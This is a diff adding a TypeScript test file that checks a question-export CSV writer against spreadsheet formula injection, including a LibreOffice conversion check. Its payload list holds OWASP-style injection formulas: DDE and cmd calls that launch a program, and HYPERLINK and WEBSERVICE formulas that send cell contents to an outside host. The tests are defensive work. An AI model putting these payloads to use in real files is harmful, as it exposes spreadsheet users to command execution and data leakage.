@@ -1,0 +1,190 @@
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { expect, onTestFinished, test } from 'vitest';
+import type { OrganisersQuestion } from '#contract/question/organisers-question.ts';
+import { cellText, type Separator } from '../../http/text/csv.ts';
+import { csvWriter, questionCells } from './question-csv.ts';
+
+/** What spreadsheets have been known to run (OWASP, CSV Injection), before and behind what may hide it. */
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1;1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://example.com?"&A1;"here")',
+  '=WEBSERVICE("https://example.com/"&B2)',
+  '=DDE("cmd";"/C calc";"x")',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+];
+const BEFORE = [
+  '',
+  ' ',
+  '  ',
+  '\t',
+  '\r',
+  '\n',
+  '\u00a0',
+  '\ufeff',
+  '"',
+  '""',
+  'x;',
+  'x,',
+  'x\n',
+  'x";',
+  'x","',
+  'x\t',
+  'x\r\n',
+  ';;',
+];
+const PAYLOADS = BEFORE.flatMap((before) => FORMULAS.map((formula) => before + formula));
+
+function questionWith(text: string): OrganisersQuestion {
+  const short = text.slice(0, 50);
+  return {
+    id: '00000000-0000-4000-8000-000000000000',
+    reference: '7K3F-9QXM',
+    number: 1,
+    version: 1,
+    state: 'received',
+    channel: 'page',
+    language: 'fr',
+    receivedAt: new Date('2026-11-30T11:00:05.123Z'),
+    age: null,
+    themeCode: null,
+    topic: null,
+    text,
+    isRedacted: false,
+    isOpened: false,
+    country: 'FR',
+    hasConsented: true,
+    isMasked: false,
+    author: { firstName: short, lastName: short, email: short, company: short },
+  };
+}
+
+async function csvOf(texts: string[], separator: Separator): Promise<string> {
+  const writer = csvWriter(separator);
+  for (const text of texts) writer.write(questionCells(questionWith(text), 'Europe/Paris'));
+  writer.end();
+  const chunks = await Array.fromAsync<Buffer>(writer);
+  return Buffer.concat(chunks).toString('utf8');
+}
+
+test('more than 200 payloads are tried', () => {
+  expect(PAYLOADS.length).toBeGreaterThan(200);
+});
+
+test.each(PAYLOADS)('%j does not begin a formula', (payload) => {
+  expect(cellText(payload)).not.toMatch(/(^|[,;\n])[\s"]*[=+\-@＝＋－＠]/);
+});
+
+test.each(['comma', 'semicolon'] as const)(
+  'separated by %s it is read again cell by cell, with the mark of UTF-8',
+  async (separator) => {
+    const texts = [
+      'Plain',
+      'two\nlines',
+      'a "quoted" word',
+      'a;b,c',
+      'Œuvre d’été €',
+      'bell\u0007 \u001b[31mred\u202e',
+      ...PAYLOADS,
+    ];
+    const csv = await csvOf(texts, separator);
+    expect(csv.startsWith('\ufeff"reference"')).toBe(true);
+    expect(csv.endsWith('"yes"\r\n')).toBe(true);
+    const delimiter = separator === 'comma' ? ',' : ';';
+    const [header, ...rows] = parse(csv, { bom: true, delimiter, record_delimiter: '\r\n' });
+    expect(header).toHaveLength(14);
+    expect(rows).toHaveLength(texts.length);
+    expect(rows[0]).toEqual([
+      '7K3F-9QXM',
+      '2026-11-30T11:00:05.123Z',
+      '2026-11-30 12:00:05',
+      'Europe/Paris',
+      'fr',
+      'page',
+      'received',
+      'Plain',
+      'Plain',
+      'Plain',
+      'Plain',
+      'Plain',
+      'FR',
+      'yes',
+    ]);
+    expect(rows.slice(1, 6).map((row) => row[7])).toEqual([
+      'two\nlines',
+      'a "quoted" word',
+      'a;b,c',
+      'Œuvre d’été €',
+      'bell\ufffd red\ufffd',
+    ]);
+  },
+);
+
+test('whatever is typed, what is read again is what was typed, but for apostrophes and control characters', async () => {
+  await fc.assert(
+    fc.asyncProperty(
+      fc.array(fc.string({ unit: 'binary', maxLength: 60 }), { minLength: 1, maxLength: 5 }),
+      async (texts) => {
+        const csv = await csvOf(texts, 'comma');
+        const rows = parse(csv, { bom: true, record_delimiter: '\r\n', from_line: 2 });
+        expect(rows.map((row) => row[7]?.replaceAll("'", ''))).toEqual(
+          texts.map((text) => cellText(text).replaceAll("'", '').toWellFormed()),
+        );
+      },
+    ),
+    { numRuns: 300 },
+  );
+});
+
+test('no question at all is a file with its header', async () => {
+  expect(await csvOf([], 'comma')).toMatch(/^\ufeff"reference",.*"financial e-mail"\r\n$/);
+});
+
+/** Sheets as LibreOffice keeps them: a formula has an attribute of its own. */
+function sheetsReadBy(file: string, separator: string, folder: string): string {
+  const filter = `CSV:${separator.charCodeAt(0)},34,76,1`;
+  const settings = [
+    `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
+    '--headless',
+    '--norestore',
+  ];
+  const conversion = [`--infilter=${filter}`, '--convert-to', 'fods', '--outdir', folder, file];
+  const { status, stderr } = spawnSync('soffice', [...settings, ...conversion], { encoding: 'utf8', timeout: 120_000 });
+  expect(status, stderr).toBe(0);
+  return readFileSync(file.replace(/csv$/, 'fods'), 'utf8');
+}
+
+const hasLibreOffice = spawnSync('soffice', ['--version'], { timeout: 60_000 }).status === 0;
+
+test.skipIf(!hasLibreOffice)(
+  'LibreOffice finds no formula, whichever separator it reads it with',
+  { timeout: 300_000 },
+  async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'tribune-csv-'));
+    onTestFinished(() => rmSync(folder, { recursive: true }));
+    const probe = join(folder, 'probe.csv');
+    writeFileSync(probe, '\ufeff"=1+1"\r\n');
+    expect(sheetsReadBy(probe, ',', folder), 'the reading finds formulas').toContain('table:formula');
+    for (const separator of ['comma', 'semicolon'] as const) {
+      const file = join(folder, `${separator}.csv`);
+      writeFileSync(file, await csvOf(PAYLOADS, separator));
+      for (const readWith of [',', ';', '\t']) {
+        expect(sheetsReadBy(file, readWith, folder), `${separator} read with ${readWith}`).not.toContain(
+          'table:formula',
+        );
+      }
+    }
+  },
+);
